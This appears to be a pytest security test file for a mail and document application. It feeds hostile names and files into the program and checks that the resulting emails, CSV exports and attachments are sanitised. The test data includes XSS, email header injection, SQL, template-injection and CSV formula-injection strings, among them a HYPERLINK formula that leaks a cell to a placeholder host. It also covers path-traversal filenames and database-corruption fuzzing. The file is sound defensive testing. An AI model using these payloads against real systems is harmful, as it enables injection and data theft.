"""Hostile words, files and databases, through the whole program: no crash, and no mail that is other than it seems."""

from __future__ import annotations

import csv
import io
import random
import re
import shutil
from datetime import timedelta
from pathlib import Path

import pytest

from app.models.kinds import Kind
from app.services import audit_export, doctor
from app.services.assembly import make_sender, open_office
from app.services.audit import EntryQuery
from app.services.clock import SetClock
from app.services.errors import Refused
from app.services.mail.values import clean_line
from app.services.requests.paperwork import DocumentDraft
from tests.support.firm import KINDS, Keyring, TestFirm

NAMES = {
    "html": '<script>alert(1)</script><img src=x onerror=alert(1)> & "co"',
    "a new header": "Halden\r\nBcc: everybody@x.example\r\n\r\nHello",
    "right to left": "\u202egnp.exe\u202c Halden \u2066\u2067\u200f\u200b",
    "very long": "Halden " * 1500,
    "a formula": '=HYPERLINK("http://x.example?"&A1,"Total")',
    "template words": "{{ firm.name }} {% for a in b %} {{ 7 * 7 }} {{ ''.__class__ }} %s %(x)s {0}",
    "control characters": "".join(map(chr, range(1, 32))) + "\x7f\x85\u2028\u2029\ufeff",
    "lone surrogates": "a\ud800b",
    "combining marks": "Z" + "\u0301\u0322\u0489" * 400,
    "SQL": "'; DROP TABLE mail; --\x00",
}


@pytest.mark.behaviour("TPL-2", "ACC-1")
@pytest.mark.parametrize("how", NAMES)
def test_whatever_a_client_or_a_request_is_called_its_mails_are_whole_or_it_is_refused(
    firm: TestFirm, how: str
) -> None:
    name = NAMES[how]
    try:
        account = firm.account(name, nora="nora@halden.example")
    except Refused:
        account = firm.account("Halden", nora="nora@halden.example")
    for kind in KINDS:
        try:
            firm.request(kind, account, title=name, days=1, number=1)
        except Refused:
            firm.request(kind, account, days=1, number=1)
    firm.days(1)
    firm.resend(*firm.tasks(account), note=clean_line(name)[:300], confirmed=True)
    firm.wait(seconds=61)
    mails = firm.mails()
    assert mails, "somebody is told"
    for mail in mails:
        header = mail.header
        assert mail.to == "nora@halden.example"
        assert [key.lower() for key in header].count("to") == 1 and header["Bcc"] is None
        assert not re.search(r"[\r\n\u202a-\u202e\u2066-\u2069]", mail.subject)
        page = header.get_body(("html",))
        assert page is not None
        content = page.get_content()
        assert "<script" not in content and "onerror=" not in content.replace("onerror=alert(1)&gt;", "")
        assert "49" not in content.partition("{{ 7 * 7 }}")[0][-3:]
        for paper in mail.papers:
            assert not re.search(r'[/\\:*?"<>|\x00-\x1f\u202a-\u202e]', paper) and len(paper) < 256, paper
    assert {state for state, _ in firm.states()} <= {"accepted", "held"}


@pytest.mark.behaviour("AUD-2")
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d", " ="])
def test_nothing_in_an_exported_trail_is_a_formula(firm: TestFirm, start: str, tmp_path: Path) -> None:
    account = firm.account(f"{start}cmd|'/c calc'!A1", nora="nora@halden.example")
    firm.request(KINDS[0], account, title=f"{start}1+1")
    target = tmp_path / "trail.csv"
    audit_export.export(
        firm.office, EntryQuery(), target, who=lambda entry: f"{start}who", event=lambda entry: f"{start}event"
    )
    rows = list(csv.reader(io.StringIO(target.read_text("utf-8-sig"))))
    assert len(rows) > 3
    dangerous = [cell for row in rows for cell in row if re.match(r"\s*[=+@\uff1d]|-[^\d]|[\t\r]", cell)]
    assert dangerous == []


PATHS = (
    "..\\..\\boot.pdf", "CON.pdf", "nul.pdf", "a:b.pdf", "LPT1", ".hidden.pdf", "a\nb.pdf", "\u202efdp.exe", "x" * 250,
)  # fmt: skip


@pytest.mark.behaviour("DOC-3")
@pytest.mark.parametrize("called", PATHS)
def test_a_document_with_a_devious_name_arrives_under_a_harmless_one(firm: TestFirm, called: str) -> None:
    folder = firm.folder / "from"
    folder.mkdir()
    paper = folder / called
    paper.write_bytes(b"%PDF-1.4 accounts")
    account = firm.account("Halden", nora="nora@halden.example")
    firm.request(Kind.APPROVAL, account, content=DocumentDraft((paper,)))
    (mail,) = firm.mails()
    (sent,) = mail.papers
    stem = sent.partition(".")[0].upper()
    assert stem not in ("CON", "NUL", "LPT1") and not sent.startswith(".")
    assert not re.search(r'[/\\:*?"<>|]', sent)


@pytest.mark.behaviour("APP-3", "APP-6")
@pytest.mark.logs("damaged|integrity|could not|cannot|failed|database")
@pytest.mark.parametrize(
    "seeds", [range(12), pytest.param(range(12, 400), marks=pytest.mark.long)], ids=["some", "many"]
)
def test_a_damaged_database_is_refused_or_works_and_never_crashes_or_mails_twice(
    firm: TestFirm, seeds: range, tmp_path: Path
) -> None:
    for number in range(3):
        firm.request(KINDS[0], firm.account(f"Client {number}", nora=f"n{number}@x.example"), days=1, number=2)
    firm.close()
    whole = firm.paths.database.read_bytes()
    outcomes = set()
    for seed in seeds:
        lot = random.Random(seed)
        damaged = bytearray(whole)
        for _ in range(lot.choice((1, 8, 64))):
            at = lot.randrange(len(damaged))
            damaged[at : at + lot.choice((1, 16, 512))] = lot.randbytes(lot.choice((1, 16, 512)))
        data = tmp_path / f"firm{seed}" / "data"
        shutil.copytree(firm.paths.data_dir, data)
        (data / firm.paths.database.name).write_bytes(bytes(damaged[: lot.choice((len(whole), len(damaged) // 2))]))
        outcomes.add(lives_on(data, firm))
        shutil.rmtree(data.parent)
    assert "refused" in outcomes
    firm._open()


def lives_on(data: Path, firm: TestFirm) -> str:
    """Open a firm and let it work: "works", or "refused" with a reason that can be shown."""
    clock = SetClock(firm.clock.now() + timedelta(days=1, hours=2))
    try:
        opened = open_office(data, state_dir=data.parent / "state", clock=clock, secrets=Keyring())
    except Refused as refused:
        return known(refused)
    try:
        list(doctor.examine(opened.office.paths, clock, Keyring()))  # type: ignore[arg-type]
        make_sender(opened.office).run_pass()
    except Refused as refused:
        return known(refused)
    finally:
        opened.close()
    return "works"


def known(refused: Refused) -> str:
    assert refused.code.startswith(("database", "schema", "document", "disk", "firm")), refused.code
    return "refused"
